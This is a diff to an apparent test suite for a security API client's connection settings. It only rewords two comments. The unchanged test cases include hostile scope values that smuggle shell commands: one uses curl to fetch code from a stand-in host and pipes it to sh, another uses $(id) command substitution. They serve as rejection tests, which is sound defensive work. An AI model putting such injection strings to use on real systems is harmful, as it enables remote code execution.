@@ -94,7 +94,7 @@ suite('reading a connection', () => {
     ['authority', { ...CUSTOM, authority: 'https://login.example/tenant' }],
     ['scope', { scope: 'https://api.securitycenter.microsoft.com/.default' }],
     ['scope', { ...CUSTOM, scope: 'Machine.LiveResponse' }],
-    // It stands in commands that people copy into a shell.
+    // The scope is part of commands that users copy into a shell.
     ['scope', { ...CUSTOM, scope: 'https://x.example;curl${IFS}evil|sh;#/.default' }],
     ['scope', { ...CUSTOM, scope: 'https://x.example/$(id)/.default' }],
     ['scope', { ...CUSTOM, scope: 'https://one.example/.default https://two.example/.default' }],
@@ -183,7 +183,7 @@ suite('where a connection signs in', () => {
       'https://login.microsoftonline.com',
       'https://api.securitycenter.microsoft.com/.default',
     ],
-    // The audience kept its old name: it does not follow the API's host.
+    // The audience kept its old name, so it differs from the API's host.
     [
       'near a region',
       { ...COMMERCIAL, region: 'eu' },
